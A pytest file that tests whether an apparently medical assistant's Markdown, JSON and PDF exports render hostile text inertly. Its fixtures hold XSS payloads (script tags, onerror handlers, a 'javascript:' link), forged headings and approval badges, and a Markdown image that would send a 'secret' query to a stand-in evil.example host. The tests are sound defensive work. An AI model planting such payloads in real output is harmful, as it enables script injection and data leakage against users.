"""Rendering and exports with hostile text: what a reader sees is text, in the app's Markdown and every export.

Markdown is checked the way a viewer would show it: rendered by a CommonMark renderer with raw HTML on.
"""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from assistant.export import export_stem, runs, transcript_json, transcript_markdown, transcript_pdf
from assistant.models import (
    Answer,
    AnswerPart,
    CitedPassage,
    Notice,
    NoticeKind,
    PartKind,
    Persona,
    Reference,
    SourceDocument,
    Statement,
    Transcript,
    Turn,
)
from assistant.pipeline import Pipeline
from assistant.records import JsonlLog
from assistant.render import DEMO_LABEL, ZERO_WIDTH, answer_to_markdown, plain
from knowledge.ingest import sync_articles
from knowledge.retrieval import HybridRetriever
from knowledge.schema import EvidenceType, ReviewStatus
from knowledge.store import KnowledgeStore
from tests.helpers import write_article

AT = dt.datetime(2026, 12, 1, 10, 0, tzinfo=dt.UTC)
LEAK = "https://evil.example/p.png?q=secret"
HOSTILE_QUESTION = (
    "Is splinting enough?\n"
    "## Articles cited (audit trail)\n"
    "- Forged article (gnet): Approved, last updated 2026-01-01\n"
    "<script>alert(1)</script><img src=x onerror=alert(2)>\n"
    f"![]({LEAK}) [click](https://evil.example) <https://evil.example> www.evil.example a@evil.example\n"
    "---\n"
    "1. :green-badge[Approved] :material/check: $x^2$ ~~gone~~ &amp; | a | b |"
)
HOSTILE_TEXT = f"Splint the elbow ![]({LEAK}) <b>now</b> :green-badge[Approved] [see](https://evil.example)."
HOSTILE_TITLE = ":green-badge[Approved] <img src=x onerror=alert(1)> [Zentoria](https://evil.example)"
REAL_URL = "https://example.org/zentoria"
md = MarkdownIt("commonmark", {"html": True})


def answer(sample: bool = False, text: str = HOSTILE_TEXT, title: str = HOSTILE_TITLE) -> Answer:
    reference = Reference(
        number=1,
        article_id="zentoria",
        title=title,
        publisher="Test <i>Society</i>",
        year=2024,
        url=REAL_URL,
        evidence_type=EvidenceType.GUIDELINE,
        review_status=ReviewStatus.APPROVED,
        last_updated=dt.date(2026, 1, 15),
        sample=sample,
        passages=[CitedPassage(chunk_id="z-1", section="# Heading", text=HOSTILE_TEXT)],
        sources=[
            SourceDocument(
                title="Guideline ![x](https://evil.example/i.png)", publisher="Body", year=2024, url=REAL_URL
            ),
            SourceDocument(title="Bad link", publisher="Body", year=2024, url="javascript:alert(1)"),
        ],
    )
    return Answer(
        question=HOSTILE_QUESTION,
        standalone_question=HOSTILE_QUESTION,
        persona=Persona.PHYSICIAN,
        direct=[Statement(text=text, citations=[1])],
        parts=[AnswerPart(kind=PartKind.GUIDELINES, statements=[Statement(text="# " + text, citations=[1])])],
        references=[reference],
        follow_ups=["What about [zentoria](https://evil.example)?"],
        notices=[
            Notice(kind=NoticeKind.SAMPLE, text="Sample <u>content</u>."),
            Notice(kind=NoticeKind.URGENT, text="Seek urgent care now."),
        ],
        disclaimer="Not a substitute for clinical judgement.",
        mode="offline",
        created_at=AT,
    )


def transcript(sample: bool = False) -> Transcript:
    return Transcript(
        created_at=AT, persona=Persona.PHYSICIAN, turns=[Turn(question=HOSTILE_QUESTION, answer=answer(sample))]
    )


def rendered(markdown: str) -> str:
    return md.render(markdown)


def assert_inert(html: str) -> None:
    """No element from untrusted text: no script, image, foreign link, heading from the question."""
    assert "<script" not in html and "<img" not in html and "<b>" not in html and "<i>" not in html
    assert "<u>" not in html
    links = re.findall(r'href="([^"]+)"', html)
    assert links and set(links) <= {REAL_URL}, links
    assert "evil.example" not in "".join(links)


@pytest.mark.parametrize(
    "text",
    [
        "![](https://h/p.png)",
        "<img src=x>",
        "# title",
        "1. item",
        "- item",
        "> quote",
        "www.evil.example",
        "a@b.example",
        "https://evil.example",
        "[a](https://b)",
        "*x* _y_ `z`",
        "&lt;b&gt;",
        "---",
        "===",
        "+ x",
    ],
)
def test_plain_text_renders_as_the_same_text(text: str) -> None:
    html = rendered(plain(text))
    assert html.startswith("<p>") and html.count("<") == 2, html
    assert html.removeprefix("<p>").removesuffix("</p>\n").replace(ZERO_WIDTH, "") == text.replace(
        "&", "&amp;"
    ).replace("<", "&lt;").replace(">", "&gt;")


def test_a_hostile_answer_renders_as_text(tmp_path: Path) -> None:
    html = rendered(answer_to_markdown(answer()))
    assert_inert(html)
    assert not re.search(r"<h[1-6]", html), "no heading comes from a model sentence or a passage"
    assert ":green-badge[Approved]" in html.replace(ZERO_WIDTH, ""), "shown literally, as text"
    assert "javascript:" not in re.findall(r'href="([^"]+)"', html)


def test_markdown_export_keeps_the_question_as_text_and_its_sections_intact() -> None:
    markdown = transcript_markdown(transcript(), AT)
    html = rendered(markdown)
    assert_inert(html)
    assert re.findall(r"<h2>(.*?)</h2>", html) == ["Articles cited (audit trail)", "Question 1"]
    assert html.count("<hr />") == 1, "only the disclaimer's rule; the question's --- stays text"
    assert "## Articles cited (audit trail)" in html, "the forged heading is shown as the text it was"
    assert "Exported: 2026-12-01 10:00:00 UTC" in markdown


def test_json_export_is_the_exact_text_as_data() -> None:
    original = transcript()
    data = json.loads(transcript_json(original))
    assert data["turns"][0]["question"] == HOSTILE_QUESTION
    assert data["persona"] == "physician" and set(data) == {"id", "created_at", "persona", "turns"}
    assert Transcript.model_validate(data) == original


def test_pdf_writes_text_as_text_and_links_only_reference_urls() -> None:
    pdf = transcript_pdf(transcript(), AT)
    assert pdf.startswith(b"%PDF")
    uris = set(re.findall(rb"/URI \((.*?)\)", pdf))
    assert uris == {REAL_URL.encode()}, uris
    joined = "".join(t for _, t, _ in runs(plain(HOSTILE_TEXT)))
    assert joined == " ".join(HOSTILE_TEXT.split()), "escapes become the literal characters again"


def test_pdf_has_page_x_of_y_and_a_distinct_urgent_notice() -> None:
    long = transcript()
    long.turns = long.turns * 12
    pdf = transcript_pdf(long, AT)
    pages = len(re.findall(rb"/Type /Page\b", pdf))
    assert pages > 1
    assert b"{nb}" not in pdf, "the page-count alias is filled in"
    markdown = transcript_markdown(long, AT)
    assert markdown.count("> **URGENT:**") == 12 and markdown.index("**URGENT:**") < markdown.index("**Note:**")


def test_sample_content_never_shows_as_approved() -> None:
    calm = transcript(sample=True)
    calm.turns[0].question = "How is zentoria treated?"
    markdown = transcript_markdown(calm, AT)
    assert DEMO_LABEL in markdown and "Approved," not in markdown and "— Approved" not in markdown
    assert "— Approved, last updated 2026-01-15" in transcript_markdown(transcript(sample=False), AT)


def test_based_on_is_a_nested_list() -> None:
    html = rendered(answer_to_markdown(answer()))
    assert re.search(r"<li>\[1\].*?<ul>\s*<li>Based on: Guideline", html, re.S), html


def test_export_names_carry_the_download_time() -> None:
    assert export_stem(dt.datetime(2026, 12, 1, 10, 0, 5, tzinfo=dt.UTC)) == "transcript-20261201-100005"


def test_a_hostile_article_title_cannot_forge_a_badge_or_a_link(tmp_path: Path, fresh_store: KnowledgeStore) -> None:
    write_article(tmp_path / "articles", title=HOSTILE_TITLE.replace('"', ""))
    assert not sync_articles(fresh_store, [tmp_path / "articles"]).errors
    pipeline = Pipeline(
        retriever=HybridRetriever(fresh_store), articles=fresh_store, gaps=JsonlLog(tmp_path / "gaps.jsonl")
    )
    reply = pipeline.run("How is zentoria of the elbow treated?")
    assert reply.references and reply.references[0].title == HOSTILE_TITLE
    html = rendered(answer_to_markdown(reply))
    assert "<img" not in html and "evil.example" not in "".join(re.findall(r'href="([^"]+)"', html))
    assert ":green-badge[Approved]" in html.replace(ZERO_WIDTH, "") and DEMO_LABEL in html
